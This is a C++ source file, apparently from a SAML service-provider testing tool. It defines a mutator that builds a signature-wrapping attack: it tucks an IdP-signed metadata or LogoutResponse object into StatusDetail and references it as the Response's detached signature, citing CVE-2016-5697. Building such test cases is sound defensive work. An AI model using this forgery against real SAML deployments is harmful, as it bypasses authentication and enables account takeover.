// SPDX-License-Identifier: Apache-2.0
// encryption.foreign_signature_carried — a valid IdP signature over some other object the IdP
// signed (its metadata EntityDescriptor, or a LogoutResponse: "F", obtainable without an account)
// becomes the Response's Signature, as a detached signature (exc-c14n only) over F carried in
// samlp:StatusDetail, next to an EncryptedAssertion (attack-catalogue ENC-FOREIGN-SIG; ruby-saml
// CVE-2016-5697). saml-core §5.4.2: the Reference must point at the signed Response itself.
// Param `object`: metadata (default) | logout_response.
#include "mutators/encryption/encryption.hpp"
#include "mutators/keys/dsig_math.hpp"
#include "samlt/core/random.hpp"
#include "samlt/core/saml_names.hpp"
#include "samlt/core/saml_time.hpp"

namespace samlt::idp::mutators {
namespace {

namespace n = core::names;

// F: an IdP-signed object, placed in Status/StatusDetail (whose content SPs never read).
xmlNode* add_foreign_object(Target& target, xmlNode* status, bool metadata) {
  xmlNode* detail = core::append_element(status, n::ns_protocol, "samlp", "StatusDetail");
  std::string id = core::new_saml_id();
  if (metadata) {
    xmlNode* entity = core::append_element(detail, n::ns_metadata, "md", "EntityDescriptor");
    core::set_attribute(entity, "ID", id);
    core::set_attribute(entity, "entityID", target.spec.response_issuer);
    xmlNode* role = core::append_element(entity, n::ns_metadata, "md", "IDPSSODescriptor");
    core::set_attribute(role, "protocolSupportEnumeration", n::ns_protocol);
    return entity;
  }
  xmlNode* logout = core::append_element(detail, n::ns_protocol, "samlp", "LogoutResponse");
  core::set_attribute(logout, "ID", id);
  core::set_attribute(logout, "Version", "2.0");
  core::set_attribute(logout, "IssueInstant", core::format_datetime(target.t0));
  core::append_element(logout, n::ns_assertion, "", "Issuer", target.spec.response_issuer);
  xmlNode* logout_status = core::append_element(logout, n::ns_protocol, "samlp", "Status");
  core::set_attribute(core::append_element(logout_status, n::ns_protocol, "samlp", "StatusCode"), "Value",
                      n::status_success);
  return logout;
}

}  // namespace

core::Result<void> encryption_foreign_signature_carried(Target& target) {
  auto object = enc::choice(target, "object", "metadata|logout_response", "metadata");
  if (!object) {
    return core::fail(object.error());
  }
  xmlNode* response = target.doc->root();
  xmlNode* issuer = core::child_named(response, n::ns_assertion, "Issuer");
  xmlNode* status = core::child_named(response, n::ns_protocol, "Status");
  if (issuer == nullptr || status == nullptr || core::child_named(response, n::ns_dsig, "Signature") != nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "needs an unsigned Response with Issuer and Status");
  }
  xmlNode* foreign = add_foreign_object(target, status, *object == "metadata");
  auto canonical = dsig::exc_c14n(foreign);
  if (!canonical) {
    return core::fail(canonical.error());
  }
  xmlNode* signature = core::insert_element_after(issuer, n::ns_dsig, "", "Signature");
  xmlNode* info = core::append_element(signature, n::ns_dsig, "", "SignedInfo");
  core::set_attribute(core::append_element(info, n::ns_dsig, "", "CanonicalizationMethod"), "Algorithm",
                      n::alg_exc_c14n);
  core::set_attribute(core::append_element(info, n::ns_dsig, "", "SignatureMethod"), "Algorithm", n::alg_rsa_sha256);
  xmlNode* reference = core::append_element(info, n::ns_dsig, "", "Reference");
  core::set_attribute(reference, "URI", "#" + core::attribute(foreign, "ID").value_or(""));
  // Detached: exc-c14n alone, no enveloped-signature transform (F does not contain the Signature).
  xmlNode* transforms = core::append_element(reference, n::ns_dsig, "", "Transforms");
  core::set_attribute(core::append_element(transforms, n::ns_dsig, "", "Transform"), "Algorithm", n::alg_exc_c14n);
  core::set_attribute(core::append_element(reference, n::ns_dsig, "", "DigestMethod"), "Algorithm", n::alg_sha256);
  core::append_element(reference, n::ns_dsig, "", "DigestValue", dsig::sha256_base64(*canonical));
  auto signed_info = dsig::exc_c14n(info);
  auto value = signed_info ? dsig::rsa_sha256_base64(target.spec.signer.key, *signed_info)
                           : core::Result<std::string>(core::fail(signed_info.error()));
  if (!value) {
    return core::fail(value.error());
  }
  core::append_element(signature, n::ns_dsig, "", "SignatureValue", *value);
  xmlNode* key_info = core::append_element(signature, n::ns_dsig, "", "KeyInfo");
  core::append_element(core::append_element(key_info, n::ns_dsig, "", "X509Data"), n::ns_dsig, "", "X509Certificate",
                       target.spec.signer.certificate.base64());
  return {};
}

}  // namespace samlt::idp::mutators
